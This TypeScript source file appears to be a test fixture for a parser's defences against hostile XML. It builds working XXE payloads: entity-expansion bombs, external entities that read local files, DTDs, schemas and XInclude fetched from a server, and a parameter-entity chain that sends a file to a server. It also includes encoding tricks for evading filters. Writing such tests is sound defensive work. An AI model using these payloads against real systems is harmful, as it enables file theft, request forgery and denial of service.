/** Where attacks point to: a file and a server with the secret. */
export interface Targets {
  readonly file: string
  readonly server: string
}

/** A part of a document made to do harm, out of a sound one. `refused`: nothing of the document may come in. */
export interface XmlAttack {
  readonly name: string
  readonly refused: boolean
  readonly make: (sound: string, targets: Targets) => Buffer
}

const body = (xml: string): string => xml.replace(/^\s*<\?xml[^>]*\?>/, '')
const declaration = '<?xml version="1.0" encoding="UTF-8"?>'
const utf8 = (text: string): Buffer => Buffer.from(text, 'utf8')
/** The part with something in front of its root element, and something right inside of it. */
const put = (xml: string, before: string, inside = ''): string =>
  declaration + before + body(xml).replace(/(<[A-Za-z][^>]*[^/>]>)/, (root) => root + inside)
/** The part with an attribute more on its root element. */
const attributed = (xml: string, attribute: string): string =>
  declaration + body(xml).replace(/<[A-Za-z][\w:.-]*/, (root) => `${root} ${attribute}`)
const doctype = (name: string, declared: (targets: Targets) => string, used = '&a;'): XmlAttack => ({
  name,
  refused: true,
  make: (xml, targets) => utf8(put(xml, `<!DOCTYPE x [${declared(targets)}]>`, used)),
})
const laughs = Array.from(
  { length: 10 },
  (_, i) => `<!ENTITY ${'abcdefghij'[i]} "${i === 0 ? 'ha' : `&${'abcdefghij'[i - 1]};`.repeat(10)}">`,
).join('')

/** Each is tried on every part that is XML. */
export const xmlAttacks: readonly XmlAttack[] = [
  doctype('entities in entities (a billion laughs)', () => laughs, '&j;'),
  doctype('one long entity many times', () => `<!ENTITY a "${'x'.repeat(100_000)}">`, '&a;'.repeat(1000)),
  doctype('an entity that is a file', ({ file }) => `<!ENTITY a SYSTEM "file://${file}">`),
  doctype('an entity from a server', ({ server }) => `<!ENTITY a SYSTEM "${server}/entity">`),
  doctype('an entity by a public name', ({ server }) => `<!ENTITY a PUBLIC "-//X//Y" "${server}/public">`),
  doctype('a parameter entity from a server', ({ server }) => `<!ENTITY % p SYSTEM "${server}/p"> %p;`),
  doctype(
    'a file sent to a server by parameter entities',
    ({ file, server }) =>
      `<!ENTITY % f SYSTEM "file://${file}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM '${server}/?%f;'>"> %e; %s;`,
    '',
  ),
  doctype('an entity in itself', () => '<!ENTITY a "&b;"><!ENTITY b "&a;">'),
  doctype('a default attribute', () => '<!ATTLIST x y CDATA "z">', ''),
  {
    name: 'an outer document type',
    refused: true,
    make: (xml, { server }) => utf8(put(xml, `<!DOCTYPE x SYSTEM "${server}/x.dtd">`)),
  },
  { name: 'an empty document type', refused: true, make: (xml) => utf8(put(xml, '<!DOCTYPE x>')) },
  {
    name: 'a document type behind a comment',
    refused: true,
    make: (xml) => utf8(put(xml, '<!-- x --><?y z?>\n<!DOCTYPE x [<!ENTITY a "b">]>', '&a;')),
  },
  {
    name: 'a document type in UTF-16',
    refused: true,
    make: (xml, { file }) =>
      Buffer.concat([
        Buffer.from([0xff, 0xfe]),
        Buffer.from(
          put(xml, `<!DOCTYPE x [<!ENTITY a SYSTEM "file://${file}">]>`, '&a;').replace('UTF-8', 'UTF-16'),
          'utf16le',
        ),
      ]),
  },
  {
    name: 'a document type in UTF-7',
    refused: true,
    make: (xml, { file }) =>
      utf8(
        `<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x +AFs-+ADwAIQ-ENTITY a SYSTEM +ACI-file://${file}+ACIAPgBdAD4-${body(xml)}`,
      ),
  },
  {
    name: 'a document type inside of the root element',
    refused: true,
    make: (xml) => utf8(put(xml, '', '<!DOCTYPE x [<!ENTITY a "b">]>')),
  },
  {
    name: '100,000 elements in one another',
    refused: true,
    make: (xml) => utf8(put(xml, '', `${'<z>'.repeat(100_000)}${'</z>'.repeat(100_000)}`)),
  },
  {
    name: 'an attribute of 2 MB',
    refused: false,
    make: (xml) => utf8(attributed(xml, `long="${'x'.repeat(2_000_000)}"`)),
  },
  {
    name: '20,000 attributes',
    refused: false,
    make: (xml) => utf8(attributed(xml, Array.from({ length: 20_000 }, (_, i) => `a${i}=""`).join(' '))),
  },
  { name: 'an attribute twice', refused: true, make: (xml) => utf8(attributed(xml, 'twice="a" twice="b"')) },
  {
    name: 'bytes that are no UTF-8',
    refused: true,
    make: (xml) =>
      Buffer.concat([utf8(declaration), Buffer.from('<!-- \xff\xfe\xc0\xaf -->', 'latin1'), utf8(body(xml))]),
  },
  {
    name: 'an encoding that nobody knows',
    refused: true,
    make: (xml) => utf8(`<?xml version="1.0" encoding="klingon"?>${body(xml)}`),
  },
  {
    name: 'an encoding in which < is another byte (EBCDIC)',
    refused: true,
    make: (xml) => utf8(`<?xml version="1.0" encoding="IBM037"?>${body(xml)}`),
  },
  { name: 'a prefix nobody declared', refused: true, make: (xml) => utf8(put(xml, '', '<nobody:x/>')) },
  {
    name: 'the prefix xml bound to another namespace',
    refused: true,
    make: (xml) => utf8(put(xml, '', '<x xmlns:xml="urn:other"/>')),
  },
  {
    name: 'a style sheet from a server',
    refused: false,
    make: (xml, { server }) => utf8(put(xml, `<?xml-stylesheet type="text/xsl" href="${server}/x.xsl"?>`)),
  },
  {
    name: 'an inclusion of a file (XInclude)',
    refused: false,
    make: (xml, { file }) =>
      utf8(
        put(
          xml,
          '',
          `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${file}" parse="text"/>`,
        ),
      ),
  },
  {
    name: 'a schema from a server',
    refused: false,
    make: (xml, { server }) =>
      utf8(
        attributed(
          xml,
          `xmlns:sneaky="http://www.w3.org/2001/XMLSchema-instance" sneaky:schemaLocation="urn:x ${server}/x.xsd"`,
        ),
      ),
  },
  {
    name: 'the end of a CDATA section without its beginning',
    refused: true,
    make: (xml) => utf8(put(xml, '', ']]>')),
  },
  {
    name: 'a CDATA section that never ends',
    refused: true,
    make: (xml) => utf8(put(xml, '', `<![CDATA[${'x'.repeat(1_000_000)}`)),
  },
  {
    name: 'a comment that never ends',
    refused: true,
    make: (xml) => utf8(put(xml, '', `<!--${' -'.repeat(50_000)}`)),
  },
  { name: 'NUL as a character reference', refused: true, make: (xml) => utf8(put(xml, '', '&#0;')) },
  {
    name: 'half a pair as a character reference',
    refused: true,
    make: (xml) => utf8(put(xml, '', '&#xD800;')),
  },
  { name: 'a character beyond Unicode', refused: true, make: (xml) => utf8(put(xml, '', '&#x110000;')) },
  {
    name: '100,000 entities that nobody declared',
    refused: true,
    make: (xml) => utf8(put(xml, '', '&x;'.repeat(100_000))),
  },
  { name: 'two root elements', refused: true, make: (xml) => utf8(declaration + body(xml) + body(xml)) },
  {
    name: 'a root element that is never closed',
    refused: true,
    make: (xml) => utf8(xml.slice(0, xml.lastIndexOf('</'))),
  },
]
